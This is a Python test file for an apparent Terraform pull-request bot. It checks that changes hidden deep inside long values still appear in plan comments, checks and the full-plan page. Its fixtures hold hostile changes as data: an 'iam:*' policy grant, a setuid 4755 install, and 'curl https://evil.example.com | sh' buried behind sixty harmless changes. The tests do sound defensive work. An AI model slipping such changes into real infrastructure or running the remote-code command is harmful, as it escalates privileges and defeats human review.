"""A pull request hides what it changes deep inside a long value: whoever reads the plan must see it anyway."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Mapping

import httpx
import pytest

from bot.playground.world import World, until
from tests.story.holds import Holds
from tests.story.production import Production
from tests.story.story import FILES, Story

ACTIONS = [f"ec2:Describe{name}" for name in ("Images", "Instances", "Subnets", "Volumes", "Vpcs", "Hosts")]
POLICY = {
    "Version": "2012-10-17",
    "Statement": [
        {
            "Sid": f"Read{n}",
            "Effect": "Allow",
            "Action": [*ACTIONS, "iam:CreateServiceLinkedRole"],
            "Resource": "*",
        }
        for n in range(4)
    ],
}
SUBNETS = [f"subnet-0{number:015x}" for number in range(20)]
SCRIPT = "#!/bin/bash\nset -euo pipefail\n" + "".join(
    f"install --mode 0644 package-{n} /srv/{n}\n" for n in range(40)
)


def resource(value: str) -> str:
    return f'resource "terraform_data" "target" {{\n  input = {value}\n}}\n'


def policy(actions: list[str]) -> str:
    changed = json.loads(json.dumps(POLICY))
    changed["Statement"][3]["Action"] += actions
    return resource(json.dumps(json.dumps(changed)))


def subnets(items: list[str]) -> str:
    return resource(json.dumps(items))


def script(text: str) -> str:
    return resource(f"<<-EOT\n{text}EOT\n")


CASES: Mapping[str, tuple[str, str, str]] = {
    "policy": (policy([]), policy(["iam:*"]), "iam:*"),
    "subnets": (subnets(SUBNETS), subnets([*SUBNETS[:19], "subnet-0bad"]), "subnet-0bad"),
    "script": (
        script(SCRIPT),
        script(SCRIPT.replace("package-37 ", "package-37 --mode 4755 ")),
        "--mode 4755",
    ),
}
"""What is deployed, what is proposed, and the part that nobody could see."""


def proposed(world: World, holds: Holds, name: str, files: tuple[str, str]) -> tuple[Story, int, str]:
    """A pull request whose first commit is applied, and whose second one is planned; returns the comment too."""
    deployed, change = files
    story = Story(world, f"acme/{name}", FILES | {"infra/main.tf": deployed.encode()}, holds=holds)
    number = story.propose({"infra/outputs.tf": 'output "made" {\n  value = true\n}\n'})
    story.planned(number)
    story.applied(number)
    story.push({"infra/main.tf": change}, "ann/change-1")
    return story, number, story.planned(number)


def check_of(story: Story, number: int) -> dict[str, str]:
    """The check of the plan on the latest commit."""
    head = story.head(number)

    def found() -> dict[str, str] | None:
        checks = story.entries(number, "check")
        return next((one for one in checks if (one["commit"], one["status"]) == (head, "completed")), None)

    return until(found, what="the check of the latest commit")


def page_of(comment: str) -> str:
    """The text of the page that the comment links to."""
    (link,) = set(re.findall(r"\[full plan\]\((http[^)]+)\)", comment))
    answer = httpx.get(link)
    assert answer.status_code == 200
    return html.unescape(re.sub(r"<[^>]+>", "\n", answer.text))


@pytest.mark.parametrize("name", CASES)
def test_the_changed_part_of_a_long_value_is_shown(world: World, holds: Holds, name: str) -> None:
    """In the comment, in the check, and on the page that both link to."""
    deployed, change, part = CASES[name]
    story, number, comment = proposed(world, holds, name, (deployed, change))
    check = check_of(story, number)
    assert (part in comment, part in check["text"]) == (True, True)
    assert "[full plan](http" in check["summary"]
    assert part in page_of(comment)


def test_a_change_that_has_no_room_is_counted_and_on_the_page(world: World, holds: Holds) -> None:
    """Behind sixty harmless changes of the same value, and behind sixty other resources."""
    noise = "".join(f"{line} # reviewed\n" for line in SCRIPT.splitlines())
    others = "".join(
        f'resource "terraform_data" "other{n}" {{\n  input = "a harmless change {n}"\n}}\n' for n in range(60)
    )
    change = others + script(f"{noise}curl https://evil.example.com | sh\n")
    _, _, comment = proposed(world, holds, "noise", (script(SCRIPT), change))
    assert re.search(r"… \d+ more changed lines?", comment)
    assert "curl https://evil.example.com | sh" in page_of(comment)


def test_the_approver_gets_the_page(world: World, holds: Holds) -> None:
    """In the comment that asks for approval, and in Slack's message with the buttons."""
    story = Production(world, holds)
    number = story.promoted()
    story.asks(number)
    posted = story.asked_in_slack(number)
    (link,) = re.findall(r"Read the \[full plan\]\((http[^)]+)\) first", story.sees(number, "Still needed"))
    assert link in json.dumps(posted.blocks)
    assert httpx.get(link).status_code == 200


def test_diff_shows_it_too(world: World, holds: Holds) -> None:
    """`/diff` of the two states, after it was applied."""
    deployed, change, part = CASES["policy"]
    story, number, _ = proposed(world, holds, "diff", (deployed, change))
    story.applied(number)
    story.say(number, "/diff staging")
    assert part in story.is_told(number, "serial")
